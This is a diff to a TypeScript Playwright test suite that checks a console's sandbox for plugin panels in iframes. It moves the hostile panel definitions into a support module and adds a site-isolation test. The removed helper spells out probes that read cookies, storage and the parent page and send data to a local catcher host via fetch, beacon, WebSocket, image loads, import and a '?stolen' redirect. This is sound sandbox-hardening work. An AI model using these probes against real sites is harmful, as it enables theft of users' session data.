@@ -10,6 +10,7 @@ import type { Browser, FrameLocator } from 'playwright-core';
 import { createApiClient } from './support/api-client.ts';
 import { ConsolePage, launchBrowser } from './support/console-page.ts';
 import { filesBelow } from './support/files-below.ts';
+import { hostilePanels } from './support/hostile-panels.ts';
 import { startTestDaemon, type TestDaemon } from './support/start-test-daemon.ts';
 import { writePanelPlugin } from './support/write-panel-plugin.ts';
 
@@ -29,7 +30,7 @@ before(async () => {
   }).listen(0, '127.0.0.1');
   await once(catcher, 'listening');
   elsewhere = `http://127.0.0.1:${(catcher.address() as AddressInfo).port}`;
-  await writePanelPlugin(join(scratch, 'probe'), panels());
+  await writePanelPlugin(join(scratch, 'probe'), hostilePanels(elsewhere));
   [gatehouse, browser] = await Promise.all([
     startTestDaemon({ plugins: [join(scratch, 'probe')] }),
     launchBrowser(),
@@ -48,64 +49,6 @@ after(async () => {
   catcher.close();
   await rm(scratch, { recursive: true, force: true });
 });
-
-/** Each tries one thing when its button is pressed, and shows what came of it. */
-function panels() {
-  const page = (
-    script: string,
-  ) => `<!doctype html><title>Hostile</title><button id="go">Go</button><pre id="out"></pre>
-    <script>
-      const show = (text) => { out.textContent += text + '\\n'; };
-      const tryTo = async (name, act) => {
-        try { show(name + ' got ' + JSON.stringify(await act())); } catch (error) { show(name + ' failed'); }
-      };
-      addEventListener('message', ({ data }) => show('message ' + JSON.stringify(data)));
-      go.addEventListener('click', async () => { ${script}; show('over'); });
-    </script>`;
-  const ask = (name: string) =>
-    `parent.postMessage({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: '${name}', arguments: { name: 'x', text: 'changed' } } }, '*')`;
-  return {
-    honest: { html: page(ask('probe_set')), operations: ['probe_set'] },
-    unlisted: { html: page(ask('probe_set')), operations: ['probe_get'] },
-    flood: {
-      html: page(
-        `for (let sent = 0; sent < 1e5; sent += 1) parent.postMessage({ jsonrpc: '2.0', id: sent, method: 'ping' }, '*')`,
-      ),
-      operations: [],
-    },
-    top: {
-      html: page(`
-        await tryTo('top', () => { top.location = '${elsewhere}/top'; return 'went'; });
-        await tryTo('open', () => { const tab = open('${elsewhere}/open'); return tab === null ? Promise.reject() : 'opened'; });
-        await tryTo('link', () => { const a = document.createElement('a'); a.href = '${elsewhere}/link'; a.target = '_top'; document.body.append(a); a.click(); return 'clicked'; })`),
-      operations: [],
-    },
-    self: { html: page(`location = '${elsewhere}/self?stolen'`), operations: [] },
-    reader: {
-      html: page(`
-        await tryTo('document', () => parent.document.body.innerHTML);
-        await tryTo('storage', () => JSON.stringify(localStorage));
-        await tryTo('session', () => JSON.stringify(sessionStorage));
-        await tryTo('cookie', () => document.cookie);
-        await tryTo('address', () => top.location.href);
-        await tryTo('database', () => new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = () => resolve('open'); open.onerror = reject; }));
-        await tryTo('api', () => fetch('/api/v1/capabilities').then((answer) => answer.text()));
-        await tryTo('fetch', () => fetch('${elsewhere}/fetch', { mode: 'no-cors' }).then(() => 'sent'));
-        await tryTo('import', () => import('${elsewhere}/import.js'));
-        await tryTo('eval', () => (0, eval)('1 + 1'));
-        await tryTo('beacon', () => { navigator.sendBeacon('${elsewhere}/beacon', 'x'); return 'queued'; });
-        await tryTo('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('${elsewhere.replace('http', 'ws')}/socket'); socket.onopen = resolve; socket.onerror = reject; }));
-        await tryTo('picture', () => new Promise((resolve, reject) => { const picture = new Image(); picture.onload = resolve; picture.onerror = reject; picture.src = '${elsewhere}/picture.png'; }))`),
-      operations: [],
-    },
-    neighbour: {
-      html: page(
-        `parent.frames.length; for (let place = 0; place < parent.frames.length; place += 1) parent.frames[place].postMessage({ jsonrpc: '2.0', id: 9, method: 'ui/initialize' }, '*'); ${ask('probe_set')}`,
-      ),
-      operations: [],
-    },
-  };
-}
 
 async function openProbe(): Promise<ConsolePage> {
   const shown = await ConsolePage.open(browser, gatehouse, { host: 'editor' });
@@ -162,6 +105,24 @@ test('a panel that floods the page is closed, the page goes on, and the person m
   assert.equal(await value(), 'changed');
   await shown.section('Panel flood').getByRole('button', { name: 'Open it again' }).click();
   await inside(shown, 'flood').getByRole('button', { name: 'Go' }).waitFor();
+});
+
+test('a panel that never gives way holds up nobody in a browser that isolates sites, as those on desktops do', async () => {
+  const isolating = await launchBrowser(['--site-per-process']);
+  try {
+    const shown = await ConsolePage.open(isolating, gatehouse);
+    await shown.goTo('Probe');
+    const go = inside(shown, 'busy').getByRole('button', { name: 'Go' });
+    await go.waitFor();
+    // The panel never answers again: the click ends with the browser.
+    const clicked = go.click().catch(() => undefined);
+    await shown.page.locator('iframe[style*="777px"]').waitFor();
+    await shown.goTo('Home');
+    await isolating.close();
+    await clicked;
+  } finally {
+    await isolating.close();
+  }
 });
 
 test('a panel leads the window nowhere and opens none', async () => {
